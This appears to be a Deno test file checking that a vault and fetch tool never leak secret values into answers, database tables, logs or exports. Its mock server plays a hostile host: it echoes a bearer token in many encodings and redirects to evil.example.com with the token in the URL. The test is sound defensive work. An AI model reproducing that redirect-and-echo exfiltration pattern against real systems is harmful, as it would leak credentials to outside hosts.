/**
 * Canaries: secrets whose values are known are kept, used, echoed by a hostile server, printed by a
 * program and asked for in every way there is. Then they are looked for everywhere.
 */
import assert from "@std/assert";
import type postgres from "postgres";
import type { Egress } from "../../../supabase/functions/_shared/egress/egress.ts";
import { readEnv } from "../../../supabase/functions/_shared/env.ts";
import { createPlatform } from "../../../supabase/functions/_shared/platform.ts";
import { createSecretKeeper } from "../../../supabase/functions/_shared/vault/reveal.ts";
import { createVault } from "../../../supabase/functions/_shared/vault/vault.ts";
import admin from "../../../supabase/functions/admin/index.ts";
import { createFetchTool } from "../../../supabase/functions/tools/fetch/tool.ts";
import { becomeQuiet } from "../../background.ts";
import type { Person } from "../../stack.ts";
import {
  answer,
  createInternet,
  type Internet,
  OTHER,
  PUBLIC,
  redirect,
} from "../_shared/egress/internet.ts";
import { as, expect } from "../admin/rig.ts";
import { inRole, operator } from "../matrix/cast.ts";
import { onEveryEngine, type ToolRig } from "./rig.ts";

/** Values with characters that encodings change. */
const CANARIES = {
  first: canary("first"),
  current: canary("current"),
  own: canary("own"),
  unused: canary("unused"),
};

/** What this process has printed: the functions' logs, and whatever else there is. */
const printed: string[] = [];
for (const level of ["debug", "info", "log", "warn", "error"] as const) {
  const print = console[level];
  console[level] = (...parts: unknown[]) => {
    printed.push(
      parts.map((part) => typeof part === "string" ? part : Deno.inspect(part)).join(" "),
    );
    print(...parts);
  };
}

function canary(name: string): string {
  return `canary/${name}+${crypto.randomUUID()}=="?&`;
}

/** A value in every form in which it could stand somewhere. */
function formsOf(value: string): string[] {
  const bytes = new TextEncoder().encode(value);
  const base64 = (text: string) => btoa(text).replace(/=+$/, "").slice(4, -4);
  return [
    value,
    // Whatever escapes the odd characters at the ends, this part is the same.
    value.slice(7, -5),
    encodeURIComponent(value),
    ...["", "x", "xx"].map((before) => base64(before + value)),
    ...["", "x", "xx"].map((before) =>
      base64(before + value).replaceAll("+", "-").replaceAll("/", "_")
    ),
    Array.from(bytes, (byte) => byte.toString(16).padStart(2, "0")).join(""),
    [...value].reverse().join(""),
  ];
}

const FORMS = Object.entries(CANARIES)
  .flatMap(([name, value]) => formsOf(value).map((form) => [name, form] as const));

function assertAbsent(where: string, text: string): void {
  for (const [name, form] of FORMS) {
    const at = text.indexOf(form);
    assert.equal(
      at,
      -1,
      `${name} as ${form} in ${where}: ${text.slice(Math.max(0, at - 80), at)}…`,
    );
  }
}

/** The tables and views that have a row with one of these texts in it. Bytes read as hex there. */
async function tablesWith(sql: postgres.Sql, forms: readonly string[]): Promise<string[]> {
  const tables = await sql<{ name: string }[]>`
    select format('%I.%I', n.nspname, c.relname) as name
    from pg_class as c join pg_namespace as n on n.oid = c.relnamespace
    where c.relkind in ('r', 'v', 'm')
      and n.nspname not in ('pg_catalog', 'information_schema', 'pg_toast')
    union all values ('pg_catalog.pg_stat_activity'), ('pg_catalog.pg_prepared_statements')`;
  const found: string[] = [];
  for (const { name } of tables) {
    const rows = await sql.unsafe(
      `select from ${name} as t
        where exists (select from unnest($1::text[]) as form where position(form in t::text) > 0)
        limit 1`,
      [[...forms]],
    );
    if (rows.length > 0) found.push(name);
  }
  return found;
}

/** What a server can say of a secret without hiding it on purpose: the whole of it, encoded. */
function echoes(heard: string): string[] {
  const value = heard.replace("Bearer ", "");
  return [heard, value].flatMap((text) => [
    ...[text, JSON.stringify({ text }), encodeURIComponent(text), btoa(text), btoa(`x${text}`)],
    Array.from(new TextEncoder().encode(text), (byte) => byte.toString(16).padStart(2, "0")).join(
      "",
    ),
  ]);
}

/** A server that says what it heard, in every way. */
function hostile(): Promise<Internet> {
  return createInternet({
    names: { "api.example.com": [[PUBLIC]], "evil.example.com": [[OTHER]] },
    servers: {
      [`${PUBLIC}:443`]: ({ line, headers }) => {
        const heard = headers.authorization ?? "nothing";
        if (line.includes("/away")) {
          return redirect(`https://evil.example.com/${encodeURIComponent(heard)}`);
        }
        if (line.includes("/broken")) return `HTTP/1.1 999 ${heard}\r\n${heard}\r\n\r\n`;
        return answer(
          echoes(heard).join("\n"),
          `x-heard: ${heard}\r\nset-cookie: k=${encodeURIComponent(heard)}\r\nx-base: ${
            btoa(heard)
          }\r\n`,
        );
      },
      [`${OTHER}:443`]: ({ headers }) => answer(headers.authorization ?? "nothing"),
    },
  });
}

const PROGRAM = `export default async (_, agent) => {
  const said = [];
  for (const url of [
    "https://api.example.com/echo", "https://api.example.com/away", "https://api.example.com/broken",
    "https://evil.example.com/", "https://api.example.com/own/echo", "https://api.example.com/expired/x",
    "https://api.example.com/missing/x",
  ]) {
    try {
      const reply = await agent.call("fetch", { url });
      console.log(JSON.stringify(reply));
      said.push(JSON.stringify(reply));
    } catch (error) {
      console.error(error.code, error.message, error.stack);
      said.push(url + " " + error.code + " " + error.message);
    }
  }
  return said;
};`;

function rule(path: string, name: string) {
  return { host: "api.example.com", paths: [path], secret: { name } };
}

const POLICY = {
  fetch: {
    rules: [
      rule("/own/**", "OWN"),
      rule("/expired/**", "EXPIRED"),
      rule("/missing/**", "MISSING"),
      rule("/**", "KEY"),
      { host: "evil.example.com", secret: { name: "KEY" } },
    ],
  },
};

/** Keeps the canaries, replaces one, and makes mistakes with them. */
async function keep(ask: ReturnType<typeof as>, agent: string): Promise<string[]> {
  const hosts = ["api.example.com"];
  const draft = { name: "KEY", value: CANARIES.first, hosts };
  const { body: { id } } = await expect(ask("POST", "/admin/secrets", draft), 201);
  const soon = new Date(Date.now() + 5_000).toISOString();
  const answers = await Promise.all([
    ask("PUT", `/admin/secrets/${id}`, { value: CANARIES.current }),
    ask("POST", "/admin/secrets", { name: "OWN", value: CANARIES.own, hosts, agent }),
    ask("POST", "/admin/secrets", {
      name: "EXPIRED",
      value: CANARIES.unused,
      hosts,
      expires_at: soon,
    }),
    ask("POST", "/admin/secrets", { name: "KEY", value: CANARIES.unused, hosts }),
    ask("POST", "/admin/secrets", { name: "bad", value: CANARIES.unused, hosts }),
    ask("POST", "/admin/secrets", {
      name: "BAD",
      value: CANARIES.unused,
      hosts: [CANARIES.unused],
    }),
    ask("POST", "/admin/secrets", { name: "BAD", value: `${CANARIES.unused}\n`, hosts }),
    ask("PUT", `/admin/secrets/${id}`, {
      value: CANARIES.unused,
      expires_at: "2020-01-01T00:00:00Z",
    }),
    ask("GET", `/admin/secrets/${id}`),
    ask("GET", "/admin/secrets"),
  ]);
  assert.deepEqual(answers.map(({ status }) => status), [
    200,
    201,
    201,
    409,
    400,
    400,
    400,
    400,
    200,
    200,
  ]);
  await new Promise((resolve) => setTimeout(resolve, Date.parse(soon) + 50 - Date.now()));
  return answers.map(({ text }) => text);
}

/** What an owner and an administrator are shown of all that. */
async function show({ ask, owner }: ToolRig, chief: Person, run: string): Promise<string[]> {
  const operate = as(chief);
  const evidence = { kind: "user", target: owner.id, reason: "canaries" };
  const made = await expect(operate("POST", "/admin/evidence", evidence), 201);
  const bundle = await expect(operate("GET", `/admin/evidence/${made.body.id}`), 200);
  const audit = await expect(operate("GET", `/admin/audit/export?actor=${owner.id}`), 200);
  const answers = await Promise.all(
    ["", "/events", "/calls", "/policy"].map(async (part) =>
      (await ask("GET", `/execute/runs/${run}${part}`)).text()
    ),
  );
  return [...answers, made.text, bundle.text, audit.text];
}

let internet: Internet;
const egress: Egress = {
  isPrivate: (url) => internet.egress.isPrivate(url),
  send: (...request) => internet.egress.send(...request),
};
const env = readEnv();
const platform = createPlatform("tools", env);
const secrets = createSecretKeeper({
  service: platform.service(),
  vault: createVault(env.secrets),
  log: platform.log,
});

onEveryEngine(
  "no value of a secret is in any answer, table, log, event, ledger row, error or export",
  [createFetchTool({ egress, secrets })],
  async (rig) => {
    await using sql = operator();
    await using network = internet = await hostile();
    // What is written down for all to see is found: so would be what is not.
    const control = crypto.randomUUID();
    console.log(control);
    const known = { name: "known", description: control, source: "export default () => 1;" };
    assert.equal((await rig.owner.call("POST", "/agents", { body: known })).status, 201);
    assert.deepEqual(await tablesWith(sql, [control]), ["public.agents"]);
    assert.ok(printed.includes(control));
    const agent = await rig.agent({ policy: POLICY, source: PROGRAM });
    const answers = await keep(as(rig.owner, admin), agent);
    const { run } = await rig.execute(agent);
    const { heard } = network;
    assert.ok(heard.some(({ headers }) => headers.authorization === `Bearer ${CANARIES.current}`));
    assert.ok(heard.some(({ headers }) => headers.authorization === `Bearer ${CANARIES.own}`));
    assert.equal(run.status, "succeeded", JSON.stringify(run.error));
    for (const { at, headers } of heard) {
      if (at === `${OTHER}:443`) assert.equal(headers.authorization, undefined);
    }
    answers.push(JSON.stringify(run), ...await show(rig, await inRole(sql, "admin"), run.id));
    await becomeQuiet();
    for (const text of answers) assertAbsent("an answer", text);
    assertAbsent("what the functions print", printed.join("\n"));
    assert.deepEqual(await tablesWith(sql, FORMS.map(([, form]) => form)), []);
  },
);
